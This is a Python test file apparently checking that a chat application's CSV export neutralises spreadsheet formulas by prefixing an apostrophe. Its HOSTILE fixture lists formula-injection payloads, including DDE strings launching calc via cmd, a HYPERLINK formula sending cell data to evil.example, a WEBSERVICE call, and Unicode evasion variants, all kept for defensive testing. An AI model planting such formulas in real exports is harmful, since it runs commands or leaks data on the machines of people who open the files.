"""No cell of a table runs as a formula, wherever its text came from."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.models import User
from conversations.exporting.csv import inert
from conversations.models import Feedback
from tests.exporting.said import answer, exported, make_conversation, say, table
from tests.factories import make_assistant, make_file

HOSTILE = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "web service": '=WEBSERVICE("http://evil.example")',
    "tab": "\t=1+1",
    "tab before words": "\tHello",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": " =1+1",
    "many blanks": " \u00a0\u3000\u2003 =1+1",
    "zero width": "\u200b\ufeff\u2060=1+1",
    "right to left": "\u202e=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1)",
    "small plus": "﹢1",
    "raised equals": "⁼1+1",
    "minus sign": "\u22121",
    "control": "\x1b=1+1",
    "Hangul filler": "\u3164=1+1",
    "lone": "=",
}
HARMLESS = {
    "nothing": "",
    "blank": "   ",
    "words": "Hello = world",
    "number": "12-3",
    "quote": "'=1+1",
    "quotation": '"=1+1"',
    "list": "* one",
    "dash": "— so it is",
    "umlaut": "Ärger @home",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_f14_what_would_be_a_formula_gets_an_apostrophe_and_keeps_its_text(name: str) -> None:
    assert inert(HOSTILE[name]) == "'" + HOSTILE[name]


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_none_stays_as_it_is(name: str) -> None:
    assert inert(HARMLESS[name]) == HARMLESS[name]


def test_f14_every_column_that_holds_text_of_somebody_is_guarded(owner: User) -> None:
    formula = "=HYPERLINK(1)"
    conversation = make_conversation(owner, title=formula, assistant=make_assistant(name=formula))
    prompt = say(conversation, formula)
    make_file(owner, message=prompt, name=formula)
    call = {"model_asked": formula, "model_answered": formula, "finish_reason": formula}
    said = answer(prompt, formula, status="failed", error_code=formula, error_text=formula, call=call)
    Feedback.objects.create(message=said, user=owner, rating="down", reason=formula)
    rows = list(csv.reader(io.StringIO(exported(owner, "csv").decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith("=")] == []
    assert cells.count("'" + formula) == 11
    assert table(exported(owner, "csv"))[0]["files"].startswith("'=HYPERLINK(1) (files/")


@pytest.mark.parametrize("name", HOSTILE)
def test_f14_the_whole_corpus_comes_back_from_a_reader_of_the_table(owner: User, name: str) -> None:
    conversation = make_conversation(owner)
    say(conversation, HOSTILE[name])
    (row,) = table(exported(owner, "csv", conversation))
    assert row["content"] == "'" + HOSTILE[name]
